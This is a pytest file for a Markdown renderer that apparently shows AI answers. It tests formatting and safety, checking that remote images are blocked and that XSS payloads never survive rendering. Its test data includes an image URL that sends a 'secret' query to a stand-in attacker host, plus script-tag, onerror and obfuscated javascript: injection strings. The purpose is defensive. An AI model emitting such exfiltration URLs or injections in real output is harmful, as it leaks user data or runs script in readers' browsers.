"""Tests for ``kagura_magic.markdown._config``: the one Markdown configuration and its safety.

GFM features, footnotes, highlighting, and invariant 5 (DESIGN.md): nothing in
an answer can run script, in ``render`` or in any streamed snapshot.
"""

from __future__ import annotations

import pytest

from kagura_magic.markdown import MarkdownStream, render
from tests.markdown_helpers import assert_safe, chunks_of, seen, visible
from tests.xss_payloads import XSS_PAYLOADS


def test_render_gfm_features() -> None:
    html = render(
        "# T\n\n**b** *i* ~~s~~ https://example.com\n\n- [ ] open\n- [x] done\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n"
    )
    assert '<h1 id="kagura-t">T</h1>' in html
    assert "<strong>b</strong> <em>i</em> <s>s</s>" in html
    assert '<a href="https://example.com" rel="noopener noreferrer">https://example.com</a>' in html
    assert 'class="task-list-item-checkbox" disabled="" type="checkbox" checked=""' in html
    assert '<td style="text-align:right" class="kagura-short">2</td>' in html


def test_short_table_cells_are_marked_to_stay_on_one_line() -> None:
    prose = "a long explanation that may wrap between its words"
    html = render(f"| id | note |\n|---|---|\n| INC-2291 | {prose} |\n| a-very-long-single-token-x | ok |\n")
    assert '<td class="kagura-short">INC-2291</td>' in html
    assert f"<td>{prose}</td>" in html
    assert '<td class="kagura-short">a-very-long-single-token-x</td>' in html  # one token never breaks


REMOTE = "![chart](https://evil.example/c.png?q=secret)"


@pytest.mark.parametrize(
    "src",
    ["https://evil.example/c.png", "//evil.example/c.png", "/\\evil.example/c.png", "HTTP://EVIL.EXAMPLE/c"],
)
def test_remote_images_are_not_fetched_by_default(src: str) -> None:
    html = render(f"![chart]({src})")
    assert "<img" not in html
    assert 'class="kagura-remote-image"' in html
    assert "chart" in visible(html) and "evil.example" in visible(html).lower()


def test_data_and_relative_images_still_show_and_remote_ones_can_be_allowed() -> None:
    assert '<img src="data:image/png;base64,iVBO" alt="a" />' in render("![a](data:image/png;base64,iVBO)")
    assert '<img src="plot.png" alt="p" />' in render("![p](plot.png)")
    assert '<img src="https://evil.example/c.png?q=secret" alt="chart" />' in render(
        REMOTE, remote_images=True
    )
    stream = MarkdownStream(remote_images=True)
    stream.feed(REMOTE)
    assert stream.finish() == render(REMOTE, remote_images=True)
    assert "<img" in stream.snapshot()


def test_render_footnotes_at_the_end() -> None:
    html = render("A[^n] b.\n\n[^n]: The note.\n\nAfter.\n")
    assert html.index("After.") < html.index('<section class="footnotes">')
    assert '<sup class="footnote-ref"><a href="#fn1" id="fnref1">[1]</a></sup>' in html


def test_highlighting_keeps_language_class_and_text() -> None:
    html = render("```python\nx = '<a>'  # hi\n```\n")
    assert html.startswith('<pre><code class="language-python"><span class=')
    assert visible(html) == "x = '<a>' # hi"
    unknown = render("```nosuchlang\na < b\n```\n")
    assert unknown == '<pre><code class="language-nosuchlang">a &lt; b\n</code></pre>\n'


def test_footnote_section_while_streaming() -> None:
    """Only defined notes get an entry; the one still being written has its back-link at its end."""
    assert "footnotes" not in seen("A[^1] b.\n\n")
    growing = seen("A[^1] b.\n\n[^1]: The no")
    assert (
        '<li id="fn1" class="footnote-item"><p>The no <a href="#fnref1" class="footnote-backref">' in growing
    )
    done = seen("A[^1] b.\n\n[^1]: The note.\n\n[^2]: x")
    assert 'The note. <a href="#fnref1" class="footnote-backref">' in done


# -- safety ------------------------------------------------------------------------------


def test_xss_collection_is_large_and_fires() -> None:
    assert len(XSS_PAYLOADS) >= 35
    # Each sets the flag (the base64 one does so once decoded); file: is refused as such.
    assert all("__xss_fired" in p or "base64" in p or "file:" in p for p in XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_never_survives(payload: str) -> None:
    assert_safe(render(payload))
    for chunks in (list(payload), chunks_of(payload, 7, 5)):
        stream = MarkdownStream()
        for chunk in chunks:
            stream.feed(chunk)
            assert_safe(stream.snapshot())
        assert_safe(stream.finish())


def test_assert_safe_catches_injections() -> None:
    """The checker itself must be able to fail."""
    for bad in (
        "<script>x</script>",
        '<img src="x" onerror="y">',
        '<a href=" JaVa&#x09;script:x">a</a>',
        '<a href="data:image/png;base64,AA">a</a>',
        "<svg></svg>",
    ):
        with pytest.raises(AssertionError):
            assert_safe(bad)


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[a](https://x.org/p?q=1)", "https://x.org/p?q=1"),
        ("[a](/relative/path)", "/relative/path"),
        ("[a](#frag)", "#kagura-frag"),  # in-answer links meet the prefixed heading ids
        ("[a](mailto:me@x.org)", "mailto:me@x.org"),
        ("![i](data:image/png;base64,AAAA)", "data:image/png;base64,AAAA"),
    ],
)
def test_safe_links_survive(text: str, href: str) -> None:
    assert href in render(text)


def test_headings_get_ids_that_in_answer_links_reach() -> None:
    heading = "## 6. Comments and analytics\n\n"
    html = render("- [Go](#6-comments-and-analytics)\n\n" + heading * 2)
    assert 'href="#kagura-6-comments-and-analytics"' in html
    assert '<h2 id="kagura-6-comments-and-analytics">' in html
    assert '<h2 id="kagura-6-comments-and-analytics-1">' in html  # unique, as GitHub does


def test_heading_ids_stay_unique_across_a_stream() -> None:
    text = "# Setup\n\ntext\n\n# Setup\n\nmore\n\n# Setup\n"
    stream = MarkdownStream()
    for ch in text:
        stream.feed(ch)
    assert stream.finish() == render(text)
    assert render(text).count('id="kagura-setup-') == 2
